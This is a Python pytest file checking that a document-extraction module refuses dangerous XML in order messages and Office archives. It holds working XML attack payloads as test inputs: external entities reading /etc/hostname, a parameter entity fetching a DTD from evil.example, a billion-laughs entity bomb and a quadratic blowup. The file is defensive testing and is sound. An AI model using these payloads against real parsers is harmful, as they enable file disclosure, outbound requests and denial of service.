"""Entities, outside references and endless nesting in XML: refused before anything is expanded or fetched."""

import io
import time
import zipfile

import pytest

from extraction.limits import Limits
from extraction.readers import read
from models.errors import UnreadableDocument
from models.reading import Part

UBL = "urn:oasis:names:specification:ubl:schema:xsd:Order-2"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
ATTACKS = {
    "external entity": '<!DOCTYPE Order [<!ENTITY p SYSTEM "file:///etc/hostname">]>',
    "parameter entity": '<!DOCTYPE Order [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    "billion laughs": f'<!DOCTYPE Order [<!ENTITY l0 "ha">{LAUGHS}]>',
    "quadratic": f'<!DOCTYPE Order [<!ENTITY a "{"a" * 50_000}">]>',
    "lower case": '<!doctype Order [<!entity p SYSTEM "file:///etc/hostname">]>',
}


def refused(data: bytes) -> str:
    before = time.monotonic()
    with pytest.raises(UnreadableDocument) as refusal:
        read(Part("x.xml", data), Limits())
    assert time.monotonic() - before < 1
    return refusal.value.reason


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("root", [f'Order xmlns="{UBL}"', "cXML", "SCRDMCCBDACIOMessageStructure", "anything"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_message_that_declares_entities_is_refused(attack: str, root: str, encoding: str) -> None:
    name = root.split()[0]
    text = f'<?xml version="1.0" encoding="{encoding}"?>{ATTACKS[attack]}<{root}>&p;</{name}>'
    assert refused(text.encode(encoding)) == "forbidden_xml"


def test_a_type_declaration_alone_is_not_fetched_and_not_refused() -> None:
    text = '<!DOCTYPE cXML SYSTEM "http://192.0.2.1/cXML.dtd"><cXML><Response/></cXML>'
    assert read(Part("x.xml", text.encode()), Limits()).orders == ()


def test_elements_nested_too_deeply_are_refused() -> None:
    text = f'<Order xmlns="{UBL}">{"<a>" * 5000}{"</a>" * 5000}</Order>'
    assert refused(text.encode()) == "too_deep"


def test_an_entity_in_a_workbooks_parts_expands_to_nothing() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", '<!DOCTYPE d [<!ENTITY p SYSTEM "file:///etc/hostname">]><d>&p;</d>')
    with pytest.raises(UnreadableDocument) as refusal:
        read(Part("x.docx", stream.getvalue()), Limits())
    assert refusal.value.reason == "no_text"
